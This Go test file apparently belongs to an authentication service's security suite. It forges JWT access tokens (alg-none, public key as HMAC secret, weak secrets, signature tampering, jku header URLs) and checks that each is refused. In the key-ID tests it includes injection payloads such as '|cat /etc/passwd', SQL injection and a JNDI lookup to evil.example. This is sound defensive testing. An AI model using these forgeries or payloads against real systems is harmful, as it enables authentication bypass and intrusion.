//go:build linux

package attack

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"hash"
	"maps"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// Forged access tokens (RFC 8725). Those with nothing wrong but one claim are
// signed with the real secret, which the service "hs256" shares.
var tokenAttacks = []attack{
	{"alg-none", algNone},
	{"alg-hmac-public-key", algPublicKeyAsSecret},
	{"alg-hmac-empty-key", algEmptyKey},
	{"alg-other", algOther},
	{"alg-missing", algMissing},
	{"kid-tricks", kidTricks},
	{"header-jwk", headerKey},
	{"header-url", headerURL},
	{"header-crit", func(t *testing.T) { refusesHeader(t, "crit", []string{"exp"}, []string{}, []string{"b64"}, "x", nil) }},
	{"header-typ", func(t *testing.T) {
		refusesHeader(t, "typ", nil, "JWT", "jwt", "rt+jwt", "logout+jwt", "at", "", []string{"at+jwt"}, "at+jwt ")
	}},
	{"header-duplicate", headerDuplicate},
	{"claim-expired", func(t *testing.T) {
		refusesClaim(t, "exp", nil, ago(0), ago(time.Second), ago(time.Hour), 0, -1, "x", []any{9999999999}, true, map[string]any{})
	}},
	{"claim-not-before", func(t *testing.T) { refusesClaim(t, "nbf", ago(-time.Hour), ago(-48*time.Hour), "x", []any{}) }},
	{"claim-issued-later", func(t *testing.T) { refusesClaim(t, "iat", ago(-time.Hour), ago(-48*time.Hour), "x") }},
	{"claim-issuer", func(t *testing.T) {
		refusesClaim(t, "iss", nil, "", "evil", "Gatehouse", "gatehouse ", "gatehouse\x00", []string{"gatehouse"}, 0)
	}},
	{"claim-audience", func(t *testing.T) {
		refusesClaim(t, "aud", nil, "", "evil", []string{}, []string{"evil"}, []string{""}, 0, map[string]any{"gatehouse": true})
	}},
	{"claim-of-another", claimOfAnother},
	{"claim-missing", func(t *testing.T) {
		refusesClaim(t, "sub", nil, "", 0, []string{})
		refusesClaim(t, "sid", nil, "", 0, "00000000-0000-0000-0000-000000000000")
		refusesClaim(t, "iat", nil)
	}},
	{"claim-roles", claimRoles},
	{"claim-duplicate", claimDuplicate},
	{"signature-missing", func(t *testing.T) { refusesSignature(t, func(s []byte) [][]byte { return [][]byte{{}, {0}} }) }},
	{"signature-cut", signatureCut},
	{"signature-flipped", signatureFlipped},
	{"signature-of-another", signatureOfAnother},
	{"signature-zero", signatureZero},
	{"expired-and-forged", expiredAndForged},
	{"weak-secret", weakSecret},
	{"malleable-base64", malleableBase64},
	{"white-space", whiteSpace},
	{"segments", segments},
	{"huge", hugeTokens},
	{"jwe", encrypted},
	{"json-serialisation", jsonSerialisation},
	{"of-another-instance", ofAnotherInstance},
	{"refresh-as-access", refreshAsAccess},
	{"broken-bearer", brokenBearer},
	{"bearer-falls-back", bearerFallsBack},
	{"in-the-url", inTheURL},
	{"personal-data", personalData},
	{"repeated", repeated},
	{"key-set", keySet},
}

var b64 = base64.RawURLEncoding

func ago(d time.Duration) int64 { return time.Now().Add(-d).Unix() }

// object is a JSON object that is changed before it is written.
type object map[string]any

// but is a copy with another value; nil removes it.
func (o object) but(name string, value any) object {
	c := maps.Clone(o)
	c[name] = value
	if value == nil {
		delete(c, name)
	}
	return c
}

// parts are the header, the claims and the signature of a token.
func parts(t *testing.T, token string) (header, claims object, signature []byte) {
	t.Helper()
	p := strings.Split(token, ".")
	if len(p) != 3 {
		t.Fatalf("a token of %d parts", len(p))
	}
	for i, v := range []*object{&header, &claims} {
		b, err := b64.DecodeString(p[i])
		d := json.NewDecoder(bytes.NewReader(b))
		d.UseNumber()
		if err != nil || d.Decode(v) != nil {
			t.Fatalf("part %d of a token of ours is %q", i, b)
		}
	}
	signature, _ = b64.DecodeString(p[2])
	return header, claims, signature
}

// forge makes a token; sign is given what is signed.
func forge(header, claims any, sign func(string) []byte) string {
	input := b64.EncodeToString([]byte(text(header))) + "." + b64.EncodeToString([]byte(text(claims)))
	return input + "." + b64.EncodeToString(sign(input))
}

// text is JSON, or a string as it is.
func text(v any) string {
	if s, ok := v.(string); ok {
		return s
	}
	return toJSON(v)
}

func unsigned(string) []byte { return nil }

func withHMAC(h func() hash.Hash, key []byte) func(string) []byte {
	return func(input string) []byte {
		m := hmac.New(h, key)
		m.Write([]byte(input))
		return m.Sum(nil)
	}
}

var withSecret = withHMAC(sha256.New, []byte(hs256Secret))

// refused presents an access token wherever one can be, and nothing is given.
func refused(t *testing.T, s *server, what, token string) {
	t.Helper()
	var answers []*answer
	for _, path := range []string{"/api/auth/me", "/api/auth/sessions"} {
		if !strings.ContainsAny(token, "\r\n\x00") {
			answers = append(answers, newClient(s).get(t, path, "Authorization", "Bearer "+token))
		}
		if !strings.ContainsAny(token, "\r\n\x00\",; \\") {
			answers = append(answers, with(s, "access_token", token).get(t, path))
		}
	}
	if len(answers) == 0 {
		t.Fatalf("%s was not sent", what)
	}
	for _, a := range answers {
		if a.status != 401 && a.status != 431 && a.status != 400 {
			t.Errorf("%s: %v", what, a)
		}
	}
}

// accepted makes sure that the forger knows the trade.
func accepted(t *testing.T, s *server, token string) {
	t.Helper()
	newClient(s).get(t, "/api/auth/me", "Authorization", "Bearer "+token).want(t, 200)
}

// victim is a user of the service of that kind, and the parts of the token.
func victim(t *testing.T, kind string) (*client, object, object, []byte) {
	t.Helper()
	c := member(t, house(t, kind))
	header, claims, signature := parts(t, c.access())
	return c, header, claims, signature
}

func refusesHeader(t *testing.T, name string, values ...any) {
	c, header, claims, _ := victim(t, "hs256")
	accepted(t, c.s, forge(header, claims, withSecret))
	for _, v := range values {
		h := header.but(name, v)
		if v == nil && name == "crit" {
			h[name] = nil
		}
		refused(t, c.s, name+" "+toJSON(v), forge(h, claims, withSecret))
	}
}

func refusesClaim(t *testing.T, name string, values ...any) {
	t.Helper()
	c, header, claims, _ := victim(t, "hs256")
	accepted(t, c.s, forge(header, claims, withSecret))
	for _, v := range values {
		refused(t, c.s, name+" "+toJSON(v), forge(header, claims.but(name, v), withSecret))
	}
}

func refusesSignature(t *testing.T, change func([]byte) [][]byte) {
	t.Helper()
	for _, kind := range []string{"plain", "es256", "hs256"} {
		c, header, claims, signature := victim(t, kind)
		accepted(t, c.s, c.access())
		for _, other := range change(signature) {
			refused(t, c.s, kind+" signature "+b64.EncodeToString(other), forge(header, claims, func(string) []byte { return other }))
			p := strings.Split(c.access(), ".")
			refused(t, c.s, kind+" signature "+b64.EncodeToString(other), p[0]+"."+p[1]+"."+b64.EncodeToString(other))
		}
	}
}

func algNone(t *testing.T) {
	c, header, claims, signature := victim(t, "plain")
	for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", " none", "", "null", nil, 0, false, []string{"none"}, "none\x00", "HS256\x00none"} {
		for _, h := range []object{header.but("alg", alg), {"alg": alg}, {"alg": alg, "typ": "at+jwt"}} {
			refused(t, c.s, "alg "+toJSON(alg), forge(h, claims, unsigned))
			refused(t, c.s, "alg "+toJSON(alg)+" with a signature", forge(h, claims, func(string) []byte { return signature }))
		}
	}
}

func algMissing(t *testing.T) {
	c, header, claims, signature := victim(t, "plain")
	p := strings.Split(c.access(), ".")
	for _, h := range []any{header.but("alg", nil), object{}, "", "null", "[]", "x", `"alg"`, `{"ALG":"EdDSA"}`} {
		refused(t, c.s, "header "+text(h), forge(h, claims, unsigned))
		refused(t, c.s, "header "+text(h), b64.EncodeToString([]byte(text(h)))+"."+p[1]+"."+b64.EncodeToString(signature))
	}
}

// publicKeys are the published keys of the service, in every form in which
// somebody may have taken them for a secret.
func publicKeys(t *testing.T, s *server) (keys [][]byte) {
	t.Helper()
	a := newClient(s).get(t, "/.well-known/jwks.json").want(t, 200)
	var parsed struct {
		Keys []struct{ Kty, X, Y string }
	}
	if err := json.Unmarshal(a.body, &parsed); err != nil || len(parsed.Keys) == 0 {
		t.Fatalf("no keys: %v %v", err, a)
	}
	for _, k := range parsed.Keys {
		x, _ := b64.DecodeString(k.X)
		keys = append(keys, x, []byte(k.X), []byte(toJSON(k)))
		var public any = ed25519.PublicKey(x)
		if k.Kty == "EC" {
			y, _ := b64.DecodeString(k.Y)
			point := append(append([]byte{4}, x...), y...)
			keys = append(keys, point, append(x, y...))
			key, err := ecdsa.ParseUncompressedPublicKey(elliptic.P256(), point)
			if err != nil {
				t.Fatal(err)
			}
			public = key
		}
		der, err := x509.MarshalPKIXPublicKey(public)
		if err != nil {
			t.Fatal(err)
		}
		p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		// White space before the armour has fooled detection by pattern.
		keys = append(keys, der, []byte(b64.EncodeToString(der)), p, bytes.TrimSpace(p), append([]byte("\n"), p...), bytes.ReplaceAll(p, []byte("\n"), []byte("\r\n")))
	}
	return append(keys, a.body)
}

var hmacs = map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New}

func algPublicKeyAsSecret(t *testing.T) {
	for _, kind := range []string{"plain", "es256"} {
		c, header, claims, _ := victim(t, kind)
		keys := publicKeys(t, c.s)
		for alg, h := range hmacs {
			for _, key := range keys {
				refused(t, c.s, alg+" with a public key", forge(header.but("alg", alg), claims, withHMAC(h, key)))
			}
		}
	}
}

func algEmptyKey(t *testing.T) {
	for _, kind := range []string{"plain", "hs256"} {
		c, header, claims, _ := victim(t, kind)
		for alg, h := range hmacs {
			for _, kid := range []any{header["kid"], nil, "", "unknown", "hs256", 0, false} {
				for _, key := range [][]byte{nil, {0}, make([]byte, 32), []byte("null"), []byte("undefined"), []byte("false")} {
					refused(t, c.s, alg+" with no key", forge(header.but("alg", alg).but("kid", kid), claims, withHMAC(h, key)))
				}
			}
		}
	}
}

// algOther signs properly, with keys and algorithms that are not the service's.
func algOther(t *testing.T) {
	c, header, claims, _ := victim(t, "plain")
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	ecKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	_, edKey, _ := ed25519.GenerateKey(nil)
	byRSA := func(input string) []byte {
		sum := sha256.Sum256([]byte(input))
		s, _ := rsa.SignPKCS1v15(rand.Reader, rsaKey, 5, sum[:])
		return s
	}
	byPSS := func(input string) []byte {
		sum := sha256.Sum256([]byte(input))
		s, _ := rsa.SignPSS(rand.Reader, rsaKey, 5, sum[:], nil)
		return s
	}
	byECDSA := func(input string) []byte {
		sum := sha256.Sum256([]byte(input))
		r, s, _ := ecdsa.Sign(rand.Reader, ecKey, sum[:])
		return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	}
	byEd := func(input string) []byte { return ed25519.Sign(edKey, []byte(input)) }
	for alg, sign := range map[string]func(string) []byte{
		"RS256": byRSA, "RS384": byRSA, "PS256": byPSS, "ES256": byECDSA, "ES384": byECDSA, "ES256K": byECDSA, "EdDSA": byEd, "Ed25519": byEd, "eddsa": byEd, "RSA-OAEP": byRSA, "A256KW": byEd,
	} {
		refused(t, c.s, alg, forge(header.but("alg", alg), claims, sign))
	}
}

func kidTricks(t *testing.T) {
	_, edKey, _ := ed25519.GenerateKey(nil)
	byEd := func(input string) []byte { return ed25519.Sign(edKey, []byte(input)) }
	for _, kind := range []string{"plain", "hs256"} {
		c, header, claims, _ := victim(t, kind)
		for _, kid := range []any{
			"", " ", "hs256", "HS256", "unknown", "../../../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "file:///dev/null",
			"' UNION SELECT 'secret' -- ", "x' OR '1'='1", "|cat /etc/passwd", "${jndi:ldap://evil.example/a}", "%00", "\x00", "\u0000", strings.Repeat("k", 1000),
			nil, 0, 1, true, []any{header["kid"]}, map[string]any{"$ne": ""}, header["kid"].(string) + " ", strings.ToUpper(header["kid"].(string)) + "x",
		} {
			h := header.but("kid", kid)
			what := "kid " + toJSON(kid)
			refused(t, c.s, what+" with my key", forge(h, claims, byEd))
			for _, key := range []string{"", "secret", "0", "1", "2"} {
				refused(t, c.s, what+" with the secret "+key, forge(h.but("alg", "HS256"), claims, withHMAC(sha256.New, []byte(key))))
			}
		}
	}
}

// headerKey brings the key along.
func headerKey(t *testing.T) {
	c, header, claims, _ := victim(t, "plain")
	public, private, _ := ed25519.GenerateKey(nil)
	sign := func(input string) []byte { return ed25519.Sign(private, []byte(input)) }
	jwk := object{"kty": "OKP", "crv": "Ed25519", "x": b64.EncodeToString(public), "alg": "EdDSA", "use": "sig"}
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	cert, err := x509.CreateCertificate(rand.Reader, template, template, public, private)
	if err != nil {
		t.Fatal(err)
	}
	for _, kid := range []any{header["kid"], "mine", nil} {
		h := header.but("kid", kid)
		refused(t, c.s, "jwk", forge(h.but("jwk", jwk.but("kid", kid)), claims, sign))
		refused(t, c.s, "x5c", forge(h.but("x5c", []string{base64.StdEncoding.EncodeToString(cert)}), claims, sign))
		refused(t, c.s, "both", forge(h.but("jwk", jwk).but("x5c", []string{base64.StdEncoding.EncodeToString(cert)}), claims, sign))
		refused(t, c.s, "jwk with a secret", forge(h.but("alg", "HS256").but("jwk", object{"kty": "oct", "k": b64.EncodeToString([]byte("mine"))}), claims, withHMAC(sha256.New, []byte("mine"))))
	}
}

// headerURL says where to fetch the key. Nobody goes there.
func headerURL(t *testing.T) {
	c, header, claims, _ := victim(t, "plain")
	public, private, _ := ed25519.GenerateKey(nil)
	var calls atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		calls.Add(1)
		_, _ = w.Write([]byte(toJSON(object{"keys": []object{{"kty": "OKP", "crv": "Ed25519", "x": b64.EncodeToString(public), "alg": "EdDSA", "kid": "mine"}}})))
	}))
	defer evil.Close()
	for _, name := range []string{"jku", "x5u", "iss", "kid"} {
		for _, kid := range []any{header["kid"], "mine"} {
			h := header.but("kid", kid).but(name, evil.URL+"/.well-known/jwks.json")
			refused(t, c.s, name, forge(h, claims, func(input string) []byte { return ed25519.Sign(private, []byte(input)) }))
		}
	}
	if n := calls.Load(); n > 0 {
		t.Errorf("the service fetched keys %d times", n)
	}
}

func headerDuplicate(t *testing.T) {
	c, header, claims, signature := victim(t, "plain")
	kid := header["kid"].(string)
	for _, h := range []string{
		`{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":"` + kid + `"}`,
		`{"alg":"EdDSA","alg":"none","typ":"at+jwt","kid":"` + kid + `"}`,
		`{"alg":"EdDSA","Alg":"none","typ":"at+jwt","kid":"` + kid + `"}`,
		`{"alg":"EdDSA","typ":"at+jwt","kid":"` + kid + `"}{"alg":"none"}`,
	} {
		refused(t, c.s, h, forge(h, claims, unsigned))
		refused(t, c.s, h, forge(h, claims, func(string) []byte { return signature }))
	}
}

// claimDuplicate puts a claim behind those that were signed.
func claimDuplicate(t *testing.T) {
	c, header, claims, signature := victim(t, "plain")
	other := member(t, c.s)
	_, others, _ := parts(t, other.access())
	for _, extra := range []string{`"sub":` + toJSON(others["sub"]) + `,"sid":` + toJSON(others["sid"]), `"exp":9999999999`, `"roles":["admin"]`} {
		changed := strings.TrimSuffix(toJSON(claims), "}") + "," + extra + "}"
		refused(t, c.s, extra, forge(header, changed, func(string) []byte { return signature }))
	}
}

// claimOfAnother is a session of mine with the name of somebody else, and the
// other way round.
func claimOfAnother(t *testing.T) {
	c, header, claims, _ := victim(t, "hs256")
	_, others, _ := parts(t, member(t, c.s).access())
	refused(t, c.s, "another sub", forge(header, claims.but("sub", others["sub"]), withSecret))
	refused(t, c.s, "another sid", forge(header, claims.but("sid", others["sid"]), withSecret))
}

// claimRoles says what nobody has granted; the store knows better.
func claimRoles(t *testing.T) {
	c, header, claims, _ := victim(t, "hs256")
	token := forge(header, claims.but("roles", []string{"admin"}).but("email", "root@example.com"), withSecret)
	a := newClient(c.s).get(t, "/api/auth/me", "Authorization", "Bearer "+token).want(t, 200)
	if a.contains("admin") || a.text("user.email") != c.email {
		t.Errorf("what a token says of its user is believed: %v", a)
	}
}

func signatureCut(t *testing.T) {
	refusesSignature(t, func(s []byte) [][]byte {
		return [][]byte{s[:len(s)-1], s[:len(s)/2], s[1:], s[:1], append(bytes.Clone(s), 0), append(bytes.Clone(s), s...), append([]byte{0}, s...)}
	})
}

func signatureFlipped(t *testing.T) {
	refusesSignature(t, func(s []byte) (list [][]byte) {
		for i := 0; i < len(s); i += 3 {
			flipped := bytes.Clone(s)
			flipped[i] ^= 1
			list = append(list, flipped)
		}
		return list
	})
}

func signatureOfAnother(t *testing.T) {
	for _, kind := range []string{"plain", "es256", "hs256"} {
		c, header, claims, signature := victim(t, kind)
		_, others, _ := parts(t, member(t, c.s).access())
		refused(t, c.s, kind, forge(header, others, func(string) []byte { return signature }))
		refused(t, c.s, kind, forge(header, claims.but("roles", []string{"admin"}), func(string) []byte { return signature }))
	}
}

// signatureZero is what some verifiers of ECDSA took for a signature of everything.
func signatureZero(t *testing.T) {
	n := elliptic.P256().Params().N.Bytes()
	zero := make([]byte, 32)
	one := append(make([]byte, 31), 1)
	refusesSignature(t, func([]byte) [][]byte {
		return [][]byte{
			bytes.Join([][]byte{zero, zero}, nil), bytes.Join([][]byte{n, n}, nil), bytes.Join([][]byte{zero, one}, nil), bytes.Join([][]byte{one, zero}, nil),
			bytes.Join([][]byte{n, one}, nil), {0x30, 6, 2, 1, 0, 2, 1, 0}, append(one, zero...),
			append([]byte{1}, make([]byte, 63)...), // the neutral point of Ed25519
		}
	})
}

// expiredAndForged has two faults, of which one must not hide the other.
func expiredAndForged(t *testing.T) {
	c, header, claims, _ := victim(t, "hs256")
	for _, exp := range []any{ago(time.Hour), nil, "x"} {
		refused(t, c.s, "expired and forged", forge(header, claims.but("exp", exp), withHMAC(sha256.New, []byte("wrong"))))
	}
}

func weakSecret(t *testing.T) {
	c, header, claims, _ := victim(t, "hs256")
	for _, secret := range []string{
		"secret", "Secret", "password", "changeme", "jwt_secret", "your-256-bit-secret", "your_jwt_secret", "supersecret", "gatehouse", "hs256", "key", "test", "dev", "development",
		"0123456789abcdef0123456789abcdef", strings.Repeat("a", 32), strings.Repeat("\x00", 64), "secretsecretsecretsecretsecretse", c.s.host, c.email,
		b64.EncodeToString([]byte(hs256Secret)), strings.ToLower(hs256Secret), hs256Secret[:31], hs256Secret + "\n",
	} {
		refused(t, c.s, "the secret "+secret, forge(header, claims, withHMAC(sha256.New, []byte(secret))))
	}
}

// malleableBase64 writes the same bytes in another way. One token has one
// spelling, or what is kept by its text (a revocation, a cache) can be avoided.
func malleableBase64(t *testing.T) {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	for _, kind := range []string{"plain", "hs256"} {
		c, _, _, _ := victim(t, kind)
		token := c.access()
		i := strings.IndexByte(alphabet, token[len(token)-1])
		for _, bit := range []int{1, 2} { // both algorithms leave at least two bits over
			refused(t, c.s, "unused bits", token[:len(token)-1]+string(alphabet[i^bit]))
		}
		p := strings.Split(token, ".")
		for _, other := range []string{token + "=", token + "==", p[0] + "=." + p[1] + "." + p[2], p[0] + "." + p[1] + "=." + p[2], p[0] + "." + p[1] + "==." + p[2] + "=="} {
			refused(t, c.s, "padding", other)
		}
		if std := strings.NewReplacer("-", "+", "_", "/").Replace(token); std != token {
			refused(t, c.s, "the other alphabet", std)
		}
	}
}

func whiteSpace(t *testing.T) {
	c, _, _, _ := victim(t, "plain")
	token := c.access()
	p := strings.Split(token, ".")
	for _, other := range []string{p[0] + " ." + p[1] + "." + p[2], p[0] + ". " + p[1] + "." + p[2], token[:len(token)/2] + " " + token[len(token)/2:], token[:9] + "\t" + token[9:], "\"" + token + "\"", token + " x", "x " + token, token + ","} {
		refused(t, c.s, "white space", other)
	}
	// The decoder would skip a line break, and a folded header may hold one.
	for _, a := range raw(t, c.s, "GET /api/auth/me HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\nAuthorization: Bearer "+token[:40]+"\r\n "+token[40:]+"\r\n\r\n") {
		a.want(t, 400, 401)
	}
}

func segments(t *testing.T) {
	c, _, _, _ := victim(t, "plain")
	token := c.access()
	p := strings.Split(token, ".")
	for _, other := range []string{
		"", ".", "..", "...", p[0], p[0] + "." + p[1], p[0] + "." + p[1] + ".", "." + p[1] + "." + p[2], p[0] + ".." + p[2], token + ".", token + "." + p[2], "." + token, token + ".x.y",
		p[1] + "." + p[0] + "." + p[2], strings.Repeat(".", 3000), strings.Repeat("a.", 1500),
	} {
		refused(t, c.s, "parts", other)
	}
	// What is after the third part is not signed.
	accepted(t, c.s, token)
}

func hugeTokens(t *testing.T) {
	c, header, claims, _ := victim(t, "hs256")
	for _, n := range []int{5000, 10_000, 14_000} {
		refused(t, c.s, "a token that fills memory", forge(header, claims.but("x", strings.Repeat("x", n*3/4)), withSecret))
		refused(t, c.s, "a header that fills memory", forge(header.but("x", strings.Repeat("x", n*3/4)), claims, withSecret))
	}
	for _, n := range []int{60_000, 500_000} {
		refused(t, c.s, "dots", strings.Repeat(".", n))
	}
	refused(t, c.s, "nested", forge(header, strings.Repeat("[", 3000), withSecret))
}

// encrypted tokens are not taken for signed ones, and cost nothing.
func encrypted(t *testing.T) {
	c, header, claims, signature := victim(t, "plain")
	p := strings.Split(c.access(), ".")
	inner := b64.EncodeToString([]byte(toJSON(claims)))
	for _, h := range []object{
		{"alg": "dir", "enc": "A128GCM"}, {"alg": "none", "enc": "none"}, {"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT"},
		{"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2147483647, "p2s": "AAAA"}, {"alg": "dir", "enc": "A256GCM", "zip": "DEF"}, header,
	} {
		first := b64.EncodeToString([]byte(toJSON(h)))
		for _, other := range []string{
			first + ".." + b64.EncodeToString(make([]byte, 12)) + "." + inner + "." + b64.EncodeToString(make([]byte, 16)),
			first + "." + p[1] + "." + p[2] + "." + inner + ".", first + "....", first + "." + p[1] + "." + b64.EncodeToString(signature) + "." + p[1] + "." + p[2],
		} {
			refused(t, c.s, toJSON(h), other)
		}
	}
}

// jsonSerialisation has other places for the same parts, and room for two
// payloads of which only one is signed.
func jsonSerialisation(t *testing.T) {
	c, _, claims, _ := victim(t, "plain")
	p := strings.Split(c.access(), ".")
	evil := b64.EncodeToString([]byte(toJSON(claims.but("roles", []string{"admin"}))))
	for _, v := range []any{
		object{"protected": p[0], "payload": p[1], "signature": p[2]},
		object{"protected": p[0], "payload": evil, "signature": p[2]},
		object{"payload": p[1], "signatures": []object{{"protected": p[0], "signature": p[2]}}},
		object{"payload": evil, "signatures": []object{{"protected": p[0], "signature": p[2]}, {"header": object{"alg": "none"}, "signature": ""}}},
		object{"payload": p[1], "signatures": []object{{"signature": p[2]}}}, object{}, []object{{"payload": p[1]}},
	} {
		refused(t, c.s, "JSON", toJSON(v))
		refused(t, c.s, "JSON in base64", b64.EncodeToString([]byte(toJSON(v))))
	}
}

// ofAnotherInstance is about a user and a session of this one.
func ofAnotherInstance(t *testing.T) {
	c, _, claims, _ := victim(t, "plain")
	for _, kind := range []string{"es256", "hs256", "https"} {
		d := member(t, house(t, kind))
		foreign := d.access()
		refused(t, c.s, "of "+kind, foreign)
		header, _, signature := parts(t, foreign)
		refused(t, c.s, "of "+kind, forge(header, claims, withSecret))
		refused(t, c.s, "of "+kind, forge(header, claims, func(string) []byte { return signature }))
		with(c.s, "refresh_token", d.refresh()).post(t, "/api/auth/refresh", "").want(t, 401)
	}
}

func refreshAsAccess(t *testing.T) {
	c, _, _, _ := victim(t, "plain")
	refused(t, c.s, "the refresh token", c.refresh())
	for _, token := range []string{c.access(), "Bearer " + c.access()} {
		with(c.s, "refresh_token", token).post(t, "/api/auth/refresh", "").want(t, 401)
		newClient(c.s).post(t, "/api/auth/refresh", toJSON(object{"refresh_token": token})).want(t, 401)
	}
	if c.me(t) == "" {
		t.Error("the session has ended")
	}
}

func brokenBearer(t *testing.T) {
	c := newClient(house(t, "plain"))
	for _, h := range []string{
		"Bearer", "Bearer ", "Bearer %", "Bearer %E0%A4%A", "Bearer %zz", "Bearer null", "Bearer undefined", "Bearer  ", "bearer", "Basic YTpi", "Digest x", "Negotiate", "Token x", "JWT x", "%", "\"", ",", "Bearer ,", "Bearer a, Bearer b",
		"Bearer \xff\xfe", "DPoP x",
	} {
		c.get(t, "/api/auth/me", "Authorization", h).want(t, 401)
		c.get(t, "/api/auth/sessions", "Authorization", h).want(t, 401)
		with(c.s, "access_token", "%E0%A4%A", "refresh_token", "%").get(t, "/api/auth/me", "Authorization", h).want(t, 401)
	}
}

// bearerFallsBack would be a way around the check of the origin, which programs
// with a token of their own need not pass.
func bearerFallsBack(t *testing.T) {
	c := member(t, house(t, "plain"))
	for _, h := range []string{"Bearer x", "Bearer ", "Bearer", "bearer x"} {
		for _, path := range []string{"/api/auth/me", "/api/auth/sessions"} {
			c.get(t, path, "Authorization", h).want(t, 401)
		}
	}
}

func inTheURL(t *testing.T) {
	c := member(t, house(t, "plain"))
	stranger := newClient(c.s)
	for _, name := range []string{"access_token", "token", "jwt", "bearer", "auth", "Authorization", "refresh_token", "session"} {
		for _, token := range []string{c.access(), c.refresh()} {
			for _, path := range []string{"/api/auth/me", "/api/auth/sessions", "/dashboard"} {
				if a := stranger.get(t, path+"?"+name+"="+token); a.status == 200 || len(a.cookies()) > 0 {
					t.Errorf("a token in the URL: %v", a)
				}
			}
			stranger.do(t, "POST", "/api/auth/refresh?"+name+"="+token, "", "").want(t, 401)
		}
	}
}

// personalData is in neither token: both lie in a cookie on somebody's disk.
func personalData(t *testing.T) {
	c := newClient(house(t, "plain"))
	c.email = newEmail()
	c.post(t, "/api/auth/register", toJSON(object{"email": c.email, "password": password, "name": "Annabel Lee"})).want(t, 201)
	c.login(t)
	_, claims, _ := parts(t, c.access())
	opaque, _ := b64.DecodeString(c.refresh())
	for _, secret := range []string{c.email, "Annabel", password, "example.com"} {
		if strings.Contains(toJSON(claims), secret) || bytes.Contains(opaque, []byte(secret)) {
			t.Errorf("%q can be read in a token", secret)
		}
	}
}

func repeated(t *testing.T) {
	c := member(t, house(t, "plain"))
	seen := map[string]bool{}
	for range 10 {
		d := c.fresh()
		d.login(t)
		_, claims, _ := parts(t, d.access())
		for _, id := range []string{d.access(), d.refresh(), claims["jti"].(string), claims["sid"].(string)} {
			if seen[id] || len(id) < 32 {
				t.Errorf("%q can be foreseen", id)
			}
			seen[id] = true
		}
	}
}

// keySet holds nothing but public halves, each with its algorithm.
func keySet(t *testing.T) {
	for _, kind := range []string{"plain", "es256", "hs256"} {
		a := newClient(house(t, kind)).get(t, "/.well-known/jwks.json").want(t, 200)
		var set struct{ Keys []map[string]any }
		if err := json.Unmarshal(a.body, &set); err != nil {
			t.Fatal(err)
		}
		for _, k := range set.Keys {
			for name := range k {
				if !strings.Contains(" kty crv x y kid use alg ", " "+name+" ") {
					t.Errorf("%s: a published key has %q", kind, name)
				}
			}
			if k["alg"] == "" || k["alg"] == nil || k["kty"] == "oct" {
				t.Errorf("%s: a published key without an algorithm, or a secret: %v", kind, k)
			}
		}
	}
}
